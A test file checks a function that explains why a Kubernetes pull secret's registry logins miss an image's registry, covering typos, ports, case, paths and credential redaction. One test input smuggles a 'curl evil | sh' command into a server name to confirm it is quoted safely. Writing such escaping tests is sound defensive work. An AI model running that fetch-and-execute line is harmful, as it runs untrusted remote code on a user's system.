import { expect, test } from "vitest";
import { nearMiss } from "../../../src/check/near-miss.ts";

const r = "myregistry.azurecr.io";

test.for<{ servers: string[]; host?: string; says: string }>([
  { servers: [], says: "no login: its auths are empty" },
  { servers: ["https://me:hunter2@ghcr.io/v2/"], says: 'a login for "https://***@ghcr.io/v2/" only' },
  { servers: ["ghcr.io"], says: "a login for ghcr.io only" },
  { servers: ["ghcr.io", "quay.io"], says: "a login for ghcr.io, quay.io only" },
  { servers: ["a.io", "b.io", "c.io"], says: "a login for a.io, b.io, c.io only" },
  { servers: ["a.io", "b.io", "c.io", "d.io", "e.io"], says: "a login for a.io, b.io, c.io and 2 more only" },
  { servers: ["ghcr.io", "myregistri.azurecr.io"], says: `a login for ghcr.io, myregistri.azurecr.io only (did you mean ${r}?)` },
  { servers: ["myregistyr.azurecr.io"], says: `a login for myregistyr.azurecr.io only (did you mean ${r}?)` },
  { servers: ["myregistry.azurecr.i"], says: `a login for myregistry.azurecr.i only (did you mean ${r}?)` },
  { servers: ["yregistry.azurecr.io"], says: `a login for yregistry.azurecr.io only (did you mean ${r}?)` },
  { servers: ["amyregistry.azurecr.io"], says: `a login for amyregistry.azurecr.io only (did you mean ${r}?)` },
  { servers: ["myregistry.azurecr.com"], says: `a login for myregistry.azurecr.com only (did you mean ${r}?)` },
  { servers: ["myregistry.azure.cr"], says: "a login for myregistry.azure.cr only" },
  { servers: ["yourregistry.azurecr.io"], says: "a login for yourregistry.azurecr.io only" },
  { servers: [`https://${r}:443`], says: `a login for https://${r}:443 only (the port matters: the image has ${r})` },
  { servers: [r], host: `${r}:443`, says: `a login for ${r} only (the port matters: the image has ${r}:443)` },
  { servers: ["MYREGISTRY.azurecr.io"], says: `a login for MYREGISTRY.azurecr.io only (case matters: the image has ${r})` },
  { servers: [r], host: "MyRegistry.azurecr.io", says: `a login for ${r} only (case matters: the image has MyRegistry.azurecr.io)` },
  { servers: [`${r}/team`], says: `a login for ${r}/team only (its path does not match ${r}/app/web)` },
  {
    servers: [`https://${r}/v2`],
    says: `a login for https://${r}/v2 only (its path does not match ${r}/app/web: add a trailing /)`,
  },
  {
    servers: [`http://${r}/v1`],
    says: `a login for http://${r}/v1 only (its path does not match ${r}/app/web: add a trailing /)`,
  },
  { servers: [`https://${r}/team/v2`], says: `a login for https://${r}/team/v2 only (its path does not match ${r}/app/web)` },
  { servers: [`${r}/https://x/v2`], says: `a login for ${r}/https://x/v2 only (its path does not match ${r}/app/web)` },
  { servers: [`https://${r}/v2x`], says: `a login for https://${r}/v2x only (its path does not match ${r}/app/web)` },
  {
    servers: ["https://index.docker.io/v1/"],
    says: "a login for https://index.docker.io/v1/ only (kubectl's default without --docker-server)",
  },
  { servers: ["index.docker.io"], says: "a login for index.docker.io only" },
  { servers: ["x\n  curl evil | sh"], says: 'a login for "x\\n  curl evil | sh" only' },
  { servers: ["a b"], says: 'a login for "a b" only' },
  { servers: [" a"], says: 'a login for " a" only' },
  { servers: ["a "], says: 'a login for "a " only' },
  { servers: ["*.azurecr.us:5000/x-y_z"], says: "a login for *.azurecr.us:5000/x-y_z only" },
])("describes the logins for $servers when the image is of $host", ({ servers, host = r, says }) => {
  expect(nearMiss("s", servers, { host, repository: "app/web" })).toBe(`secret s has ${says}`);
});
